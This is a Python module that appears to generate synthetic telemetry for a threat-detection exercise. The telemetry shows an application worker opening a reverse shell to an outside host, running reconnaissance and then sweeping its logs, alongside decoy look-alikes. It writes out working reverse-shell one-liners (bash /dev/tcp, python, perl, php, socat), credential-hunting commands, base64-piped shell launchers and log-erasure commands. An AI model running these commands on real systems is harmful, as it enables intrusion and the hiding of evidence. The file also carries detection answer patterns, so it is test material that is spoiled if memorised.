"""An application calls an intruder back with a shell, in which its logs are swept.

The intrusion's shells were started below a worker of the application, are connected to a host
outside, and their commands change logs. Each kind of look-alike lacks exactly one of the three.
"""

from __future__ import annotations

import re
from datetime import datetime, timedelta
from typing import TYPE_CHECKING

from fleetgym_env_cti_realm.stories.plot import Plot
from fleetgym_estate.drawing import azure_ip, one, some
from fleetgym_estate.telemetry.linux_cast import products_of
from fleetgym_estate.trail import Process, Trail, daemon, login

if TYPE_CHECKING:
    from numpy.random import Generator

    from fleetgym_estate.estate import Estate, Host

__all__ = ["draw"]

_SHELL = "/usr/bin/dash"
_BASH = "/usr/bin/bash"
_WORKER = {"web": "php-fpm8.2", "app": "java", "ci": "java"}
_PORTS = (443, 4444, 8443, 9001, 53, 8080, 1337, 6443)
_NAMES = ("relay", "assist", "edge", "support", "tunnel", "desk", "link", "access")
_VENDORS = ("northgrid", "opsbridge", "helpwire", "fieldnode", "cratelab", "deskpoint")
_PYTHON = (
    'python3 -c import socket,os,pty;s=socket.socket();s.connect(("{host}",{port}));'
    '[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("/bin/bash")'
)
_PERL = (
    "perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in({port},"
    'inet_aton("{host}")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");'
)
_CALLS = (
    ("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/{host}/{port} 0>&1", "bash -i"),
    ("/usr/bin/python3.11", _PYTHON, "/bin/bash"),
    ("/usr/bin/perl", _PERL, "/bin/sh -i"),
    ("/usr/bin/php8.2", 'php -r $s=fsockopen("{host}",{port});exec("sh -i <&3 >&3");', "sh -i"),
    ("/usr/bin/socat", "socat exec:bash -li,pty,stderr,setsid tcp:{host}:{port}", "bash -li"),
)
"""Path and command line of interpreters, and the command line of the shell that they start."""

_COMMANDS = (
    ("/usr/bin/id", "id"),
    ("/usr/bin/uname", "uname -a"),
    ("/usr/bin/ss", "ss -tlnp"),
    ("/usr/bin/ps", "ps auxf"),
    ("/usr/bin/df", "df -h"),
    ("/usr/bin/cat", "cat /etc/passwd"),
    ("/usr/bin/cat", "cat /proc/1/cgroup"),
    ("/usr/bin/ls", "ls -la {root}"),
    ("/usr/bin/find", "find {root} -name *.properties -size -64k"),
    ("/usr/bin/grep", "grep -rl password {root}"),
    ("/usr/bin/tar", "tar -czf /tmp/{code}.tgz {root}/conf"),
    ("/usr/bin/curl", "curl -s -m 5 http://127.0.0.1:8080/actuator/env"),
)
# Program, command line and what becomes of the file.
_CHANGES = (
    ("/usr/bin/sed", "sed -i /{peer}/d {file}", "FileRenamed"),
    ("/usr/bin/sed", "sed -i -e 120,$d {file}", "FileRenamed"),
    ("/usr/bin/truncate", "truncate -s 0 {file}", "FileModified"),
    ("/usr/bin/cp", "cp /dev/null {file}", "FileModified"),
    ("/usr/bin/shred", "shred -u {file}", "FileDeleted"),
    ("/usr/bin/rm", "rm -f {file}", "FileDeleted"),
)
_STARTS = (
    "setsid /tmp/.{code} &",
    "nohup sh /var/tmp/{code}.sh 2>/dev/null",
    "echo {code} | base64 -d | sh",
    "cd /tmp; ./{code}",
)
_LOGS = {
    "web": ("/var/log/nginx/access.log", "/var/log/nginx/error.log", "/var/log/php8.2-fpm.log"),
    "app": ("{root}/logs/service.log", "{root}/logs/access.log", "/var/log/{product}/audit.log"),
    "ci": ("{root}/logs/jobs.log", "/var/log/{product}/agent.log", "{root}/logs/access.log"),
}
_OTHERS = (
    "{root}/cache/templates.idx",
    "{root}/conf/features.properties",
    "{root}/cache/session.lock",
    "{root}/work/heap.hprof",
)


def draw(estate: Estate, rng: Generator) -> Plot:
    """Draw the intrusion and its look-alikes."""
    scene = _Scene(estate, rng)
    hosts = some(rng, [h for h in estate.hosts if h.role in _WORKER], 11)
    reached = 1 + int(rng.integers(0, 2))
    total, peer = int(rng.integers(5, 10)), scene.outside()
    for index, host in enumerate(hosts[:reached]):
        count = total // reached + (index < total % reached)
        scene.visit(scene.worker(host), peer, count, sweeps=True, asked_for=True)
    for host in hosts[2:5]:
        scene.visit(scene.worker(host), scene.inside(), scene.some(), sweeps=True)
    for host in hosts[5:8]:
        scene.visit(scene.elsewhere(host), scene.outside(), scene.some(), sweeps=True)
    for host in hosts[8:11]:
        scene.visit(scene.worker(host), scene.outside(), scene.some(), sweeps=False)
    names = "|".join(f"^{re.escape(host.name)}$" for host in hosts[:reached])
    return Plot(
        events=scene.trail.events,
        patterns={"DeviceName": names, "InitiatingProcessCommandLine": r"(bash|sh)( -l?i)?$"},
    )


class _Scene:
    """Shells that are steered from another host."""

    def __init__(self, estate: Estate, rng: Generator) -> None:
        self.trail = Trail(rng)
        self._estate = estate
        self._rng = rng

    def some(self) -> int:
        """Return how many commands an honest shell runs."""
        return int(self._rng.integers(4, 8))

    def outside(self) -> str:
        """Return a public address or the name of a host that is not the company's."""
        rng = self._rng
        name = f"{one(rng, _NAMES)}.{one(rng, _VENDORS)}.example"
        return one(rng, (*self._estate.outside_ips(rng, 1), azure_ip(rng), name))

    def inside(self) -> str:
        """Return the address or the name of a host of the company."""
        rng, estate = self._rng, self._estate
        peer = one(rng, estate.hosts)
        return one(rng, (peer.ip, peer.name, f"{one(rng, _NAMES)}.{estate.domain}"))

    def worker(self, host: Host) -> Process:
        """Return a worker of the application, or the shell that it starts commands with."""
        worker = daemon(host, _WORKER[host.role])
        return self._by_shell(worker) if self._rng.random() < 0.6 else worker

    def elsewhere(self, host: Host) -> Process:
        """Return what starts a vendor's helper: a job, a service or an administrator's shell."""
        rng, estate = self._rng, self._estate
        kind = int(rng.integers(0, 3))
        if kind == 0:
            return self._by_shell(daemon(host, "cron"), account=host.service_account)
        if kind == 1:
            return daemon(host, "systemd", host.service_account)
        user = one(rng, [user for user in estate.linux_users if user.administrator])
        session = login(host, user.name, user.workstation_ip, terminal=True)
        return self.trail.start(self._when(), session, "/usr/bin/bash", "-bash")

    def visit(
        self, start: Process, peer: str, count: int, *, sweeps: bool, asked_for: bool = False
    ) -> None:
        """Let an interpreter connect to ``peer`` and its shell run ``count`` commands."""
        rng, trail, host = self._rng, self.trail, start.host
        path, command, shell_command = one(rng, _CALLS)
        at = start.born or self._when()
        port = one(rng, _PORTS)
        call = trail.start(_later(at, 0.1), start, path, command.format(host=peer, port=port))
        program = _SHELL if "/sh" in shell_command or shell_command[:2] == "sh" else _BASH
        shell = trail.start(_later(_born(call), 0.2), call, program, shell_command)
        product = one(rng, products_of(self._estate))
        root = {"web": "/var/www", "app": "/opt", "ci": "/srv"}[host.role]
        words = {"product": product, "root": f"{root}/{product}", "code": rng.bytes(3).hex()}
        changes = 1 + int(rng.integers(0, min(3, count - 1)))
        at = _born(shell)
        for program, command in some(rng, _COMMANDS, count - changes):
            at = _later(at, float(rng.uniform(3, 150)))
            trail.start(at, shell, program, command.format(**words), asked_for=asked_for)
        files = some(rng, _LOGS[host.role] if sweeps else _OTHERS, changes)
        for file in files:
            at = _later(at, float(rng.uniform(3, 150)))
            self._change(shell, at, file.format(**words), peer, asked_for=asked_for)

    def _by_shell(self, parent: Process, account: str | None = None) -> Process:
        """Let a daemon start a shell for one command line."""
        rng = self._rng
        command = f'sh -c "{one(rng, _STARTS).format(code=rng.bytes(4).hex())}"'
        return self.trail.start(self._when(), parent, _SHELL, command, account=account)

    def _change(
        self, shell: Process, at: datetime, file: str, peer: str, *, asked_for: bool
    ) -> None:
        """Let a command of the shell change or delete a file."""
        program, command, action = one(self._rng, _CHANGES)
        line = command.format(file=file, peer=peer)
        changing = self.trail.start(at, shell, program, line, asked_for=asked_for)
        before = None
        if action == "FileRenamed":
            before = f"{file.rpartition('/')[0]}/sed{self._rng.bytes(3).hex()}"
            self.trail.touch(_later(_born(changing), 0.1), changing, before)
        self.trail.touch(_later(_born(changing), 0.2), changing, file, action, previous=before)

    def _when(self) -> datetime:
        return self._estate.start + timedelta(hours=float(self._rng.uniform(2, 46)))


def _later(at: datetime, seconds: float) -> datetime:
    return at + timedelta(seconds=seconds)


def _born(process: Process) -> datetime:
    """Return when a process that was started here began."""
    assert process.born is not None
    return process.born
